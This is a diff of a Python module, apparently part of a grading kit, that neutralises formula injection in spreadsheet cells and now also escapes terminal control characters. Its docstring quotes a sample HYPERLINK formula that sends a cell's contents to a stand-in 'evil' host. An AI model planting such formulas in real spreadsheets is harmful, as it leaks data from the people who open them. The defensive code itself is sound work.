@@ -6,17 +6,20 @@ skip before one of those) is a formula to Excel and LibreOffice, e.g.
 `=HYPERLINK("http://evil/?"&A1,"open")`. Such a cell is written with a leading `'`, which
 spreadsheets show as text and do not display. Reading back (`plain_row`) removes it, so the
 kit's own readers see the original; a value that starts with `'` gets one more, to stay
-reversible. Numbers (a negative score) are written as they are.
+reversible. Numbers (a negative score) are written as they are. Control characters (terminal
+escapes that act when the TA `cat`s the file) are written as escapes (printable.py).
 """
 from __future__ import annotations
+
+from .printable import visible
 
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "'")
 
 
 def safe_cell(value):
     if not isinstance(value, str) or not value.startswith(TRIGGERS) or _is_number(value):
-        return value
-    return "'" + value
+        return visible(value) if isinstance(value, str) else value
+    return "'" + visible(value)
 
 
 def plain_cell(value):
